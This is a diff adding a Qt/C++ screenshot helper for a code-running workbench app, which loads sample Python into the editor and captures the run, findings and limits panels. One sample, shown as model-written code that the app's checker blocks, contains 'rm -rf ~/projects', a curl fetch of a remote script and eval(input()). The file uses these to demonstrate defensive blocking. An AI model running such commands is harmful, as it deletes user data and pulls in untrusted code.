@@ -1,0 +1,113 @@
+#include "screenshotter.h"
+
+#include <QApplication>
+#include <QDir>
+#include <QDockWidget>
+#include <QPixmap>
+#include <QTimer>
+
+#include "codeeditor.h"
+#include "editortabs.h"
+#include "livechecker.h"
+#include "mainwindow.h"
+#include "runcontroller.h"
+
+namespace agentrun::ui {
+
+namespace {
+
+const char* const RunSnippet = R"(# Allocate a table, summarise it, and show progress like a notebook would.
+import time
+
+rows = [(i, i * i % 97) for i in range(400_000)]
+block = bytearray(40 * 1024 * 1024)
+block[::4096] = b"x" * len(block[::4096])
+for step in range(0, 101, 20):
+    print(f"\rprocessing {step:3d}%", end="", flush=True)
+    time.sleep(0.3)
+print()
+total = sum(v for _, v in rows)
+print("\x1b[32mrows:\x1b[0m", len(rows), " \x1b[32msum:\x1b[0m", total)
+)";
+
+const char* const BlockedSnippet = R"(# Code a model wrote: the check stops it before any container starts.
+import os
+import subprocess
+
+print("cleaning up…")
+os.system("rm -rf ~/projects")
+subprocess.run(["curl", "http://example.com/x.sh"])
+data = eval(input())
+)";
+
+} // namespace
+
+void Screenshotter::start(MainWindow& window, const QString& directory)
+{
+    auto* shooter = new Screenshotter(window, directory);
+    shooter->later(500, [shooter] { shooter->runStep(); });
+}
+
+Screenshotter::Screenshotter(MainWindow& window, QString directory)
+    : QObject(&window), m_window(window), m_directory(std::move(directory))
+{
+    QDir().mkpath(m_directory);
+    m_window.resize(1400, 880);
+}
+
+void Screenshotter::later(int ms, std::function<void()> next)
+{
+    QTimer::singleShot(ms, this, std::move(next));
+}
+
+void Screenshotter::save(const QString& name)
+{
+    const QString path = QDir(m_directory).filePath(name);
+    if (!m_window.grab().save(path))
+        qWarning("could not write %s", qPrintable(path));
+    else
+        qInfo("wrote %s", qPrintable(path));
+}
+
+void Screenshotter::runStep()
+{
+    m_window.editorTabs()->currentEditor()->setText(QString::fromUtf8(RunSnippet));
+    m_window.findChild<QDockWidget*>(QStringLiteral("resourcesDock"))->raise();
+    auto connection = std::make_shared<QMetaObject::Connection>();
+    *connection = connect(m_window.runController(), &RunController::finished, this, [this, connection] {
+        disconnect(*connection);
+        later(600, [this] {
+            save(QStringLiteral("workbench-run.png"));
+            blockedStep();
+        });
+    });
+    m_window.runCurrent();
+}
+
+void Screenshotter::blockedStep()
+{
+    CodeEditor* editor = m_window.editorTabs()->newTab(QStringLiteral("from_chat.py"));
+    m_window.findChild<QDockWidget*>(QStringLiteral("findingsDock"))->raise();
+    auto connection = std::make_shared<QMetaObject::Connection>();
+    *connection =
+        connect(m_window.liveChecker(), &LiveChecker::reportReady, this, [this, connection, editor] {
+            disconnect(*connection);
+            editor->setCursorPosition(5, 4);
+            later(400, [this] {
+                save(QStringLiteral("workbench-blocked.png"));
+                limitsStep();
+            });
+        });
+    editor->setText(QString::fromUtf8(BlockedSnippet));
+}
+
+void Screenshotter::limitsStep()
+{
+    m_window.findChild<QDockWidget*>(QStringLiteral("limitsDock"))->raise();
+    later(400, [this] {
+        save(QStringLiteral("workbench-limits.png"));
+        QApplication::quit();
+    });
+}
+
+} // namespace agentrun::ui
